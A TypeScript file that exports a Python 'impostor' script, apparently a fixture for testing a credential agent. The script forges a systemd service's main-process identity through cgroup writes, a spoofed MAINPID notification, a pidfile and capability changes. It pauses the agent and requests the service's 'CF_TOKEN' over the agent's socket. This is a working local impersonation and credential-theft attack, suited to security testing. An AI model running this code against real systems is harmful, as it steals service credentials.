/**
 * Becomes the main process of victim.service in the ways that its first argument names, asks in its name, and runs the
 * program of PID 1, its second, there. The third is what PID 1 may do.
 */
export const impostor = String.raw`import ctypes, os, socket, sys, time
ways = sys.argv[1].split(",")
libc = ctypes.CDLL(None, use_errno=True)
def main_pid():
    return os.popen("systemctl show -P MainPID victim.service").read().strip()
agent = int(os.popen("systemctl show -P MainPID sealaunch-agent.service").read())
ask = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
ask.bind(b"\0" + b"1234567890abcdef/unit/victim.service/CF_TOKEN")
child = os.fork()
if child == 0:
    for place in ("/sys/fs/cgroup/systemd", "/sys/fs/cgroup/unified", "/sys/fs/cgroup"):
        try:
            with open(place + "/system.slice/victim.service/cgroup.procs", "w") as group:
                group.write(str(os.getpid()))
        except OSError:
            pass
    if "notify" in ways:
        notify = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        notify.connect("/run/systemd/notify")
        notify.send(b"MAINPID=%d" % os.getpid())
    if "pidfile" in ways:
        with open("/run/victim.pid", "w") as file:
            file.write("%d\n" % os.getpid())
    for tries in range(100):
        if main_pid() == str(os.getpid()):
            break
        time.sleep(0.05)
    if "namespace" in ways:
        # Ambient capabilities outlast what follows, though uid 0 can't be mapped without any.
        libc.unshare(0x10000000)
        header = (ctypes.c_uint32 * 2)(0x20080522, 0)
        data = (ctypes.c_uint32 * 6)()
        # All three of the kernel's sets, low halves first, are PID 1's.
        wanted = int(sys.argv[3], 16)
        for at in range(6):
            data[at] = (wanted >> (0 if at < 3 else 32)) & 0xffffffff
        libc.capset(header, data)
        for capability in range(41):
            libc.prctl(47, 2, capability, 0, 0)
    # It stops when it has become the program, and has asked itself: the agent comes to look afterwards.
    os.kill(agent, 19)
    ask.connect("/run/sealaunch/agent.sock")
    libc.ptrace(0, 0, 0, 0)
    os.set_inheritable(ask.fileno(), True)
    os.execv(sys.argv[2], ["(sd-mkdcreds)"])
os.waitpid(child, os.WUNTRACED)
# It also stops for each signal that it gets, such as that a command of its own has ended.
while "python" in os.readlink("/proc/%d/exe" % child):
    libc.ptrace(7, child, 0, 0)
    os.waitpid(child, os.WUNTRACED)
status = open("/proc/%d/status" % child).read()
print("main", main_pid() == str(child), os.readlink("/proc/%d/exe" % child), flush=True)
print([line for line in status.splitlines() if line.startswith("CapPrm")], flush=True)
os.kill(agent, 18)
ask.shutdown(socket.SHUT_WR)
size = 0
while True:
    part = ask.recv(65536)
    if not part:
        break
    size += len(part)
print("answered", size)
os.kill(child, 9)
`;
